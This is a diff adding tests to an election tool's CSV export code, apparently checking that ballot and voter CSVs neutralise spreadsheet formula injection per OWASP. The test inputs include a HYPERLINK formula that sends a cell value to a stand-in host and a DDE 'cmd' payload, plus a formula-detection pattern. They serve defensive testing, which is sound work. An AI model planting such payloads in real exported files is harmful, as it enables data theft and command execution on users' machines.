@@ -3,10 +3,11 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { randomInt } from 'node:crypto';
-import { csvBallotLine, csvCell, csvHeader, shuffle } from '../../src/core/officer/ballotsCsv.js';
+import { CSV_EOL, columnOrder, csvBallotLine, csvCell, csvHeader, shuffle } from '../../src/core/officer/ballotsCsv.js';
 import { longDate, ordinal, percent, resultsDraft } from '../../src/core/officer/resultsDraft.js';
 import { fillDays, pairwiseBucket, turnoutOf } from '../../src/core/officer/turnout.js';
-import { NO_OPINION_RANK, tallyBallots } from '../../src/core/tally/index.js';
+import { NO_OPINION_RANK, countCsv, tallyBallots } from '../../src/core/tally/index.js';
+import { votersCsv } from '../../src/app/officer/overview.js';
 import { niceCeil } from '../../src/views/officer/VotesChart.js';
 
 test('turnout compares logins case-insensitively, counts duplicates once, and keeps off-list voters apart', () => {
@@ -55,6 +56,63 @@ test('CSV cells: quoted only when needed; no opinion written out; ranks as store
   assert.equal(csvCell(' padded'), '" padded"');
   assert.equal(csvHeader(['a', 'b,c']), 'a,"b,c"');
   assert.equal(csvBallotLine(['a', 'b', 'c', 'd'], [{ candidate: 'c', rank: 1 }, { candidate: 'a', rank: 2 }, { candidate: 'b', rank: NO_OPINION_RANK }]), '2,No opinion,1,No opinion');
+});
+
+/** Cells of a CSV line as a spreadsheet splits them (RFC 4180 quotes). */
+function cellsOf(line: string): string[] {
+  const cells: string[] = [];
+  for (const m of line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)) {
+    if (m.index === line.length && cells.length > 0) break;
+    cells.push(m[1]!.startsWith('"') ? m[1]!.slice(1, -1).replaceAll('""', '"') : m[1]!);
+  }
+  return cells;
+}
+
+/** What a spreadsheet would evaluate: a cell starting with = + - @, a tab or a CR (OWASP). */
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+test('CSV cells never start a spreadsheet formula: = + - @ tab CR get an apostrophe and quotes (OWASP)', () => {
+  const cases: [string, string][] = [
+    ['=HYPERLINK("https://evil.example","x")', '"\'=HYPERLINK(""https://evil.example"",""x"")"'],
+    ['+1', '"\'+1"'],
+    ['-2+3', '"\'-2+3"'],
+    ['@SUM(A1)', '"\'@SUM(A1)"'],
+    ['\tcmd', '"\'\tcmd"'],
+    ['\r=1', '"\'\r=1"'],
+    // Already starting with apostrophes: one more, so reading back removes exactly one.
+    ["'=x", '"\'\'=x"'],
+    // Not formulas: left alone.
+    ["it's", "it's"],
+    ["'quoted'", "'quoted'"],
+    ['a=b', 'a=b'],
+    ['me@example.org', 'me@example.org'],
+    ['x-y', 'x-y'],
+  ];
+  for (const [raw, written] of cases) {
+    assert.equal(csvCell(raw), written, JSON.stringify(raw));
+    assert.doesNotMatch(cellsOf(written)[0]!, FORMULA_START, JSON.stringify(raw));
+  }
+});
+
+test('a ballots CSV with formula-like candidate IDs is safe in a spreadsheet and counts back to the same IDs', () => {
+  const ids = ['=HYPERLINK("https://evil.example/?"&A1,"Vote")', '+cmd', '-2+3', '@SUM(1)', '\tTab', "'=quoted", "''+two", 'plain', "it's", 'a,b'];
+  const columns = columnOrder(ids);
+  const csv = [csvHeader(columns), csvBallotLine(columns, columns.map((candidate, i) => ({ candidate, rank: i + 1 })))].join(CSV_EOL) + CSV_EOL;
+  for (const cell of cellsOf(csv.split(CSV_EOL)[0]!)) assert.doesNotMatch(cell, FORMULA_START, cell);
+  const counted = countCsv(csv);
+  assert.deepEqual(counted.candidates, columns);
+  assert.equal(counted.counter.ballots, 1);
+});
+
+test('the voters CSV neutralises formulas and quotes what needs it, whatever voters.yaml holds', () => {
+  const csv = votersCsv(turnoutOf(['=cmd|\' /C calc\'!A0', 'ada', '@admin', 'Jane "JD" Doe'], ['ada'], 0));
+  const lines = csv.split(CSV_EOL);
+  assert.equal(lines[0], 'login,voted');
+  for (const line of lines.slice(1, -1)) assert.doesNotMatch(cellsOf(line)[0]!, FORMULA_START, line);
+  assert.ok(lines.includes('"\'=cmd|\' /C calc\'!A0",no'), csv);
+  assert.ok(lines.includes('"\'@admin",no'), csv);
+  assert.ok(lines.includes('"Jane ""JD"" Doe",no'), csv);
+  assert.ok(lines.includes('ada,yes'), csv);
 });
 
 test('the shuffle is a permutation, and every position is reachable', () => {
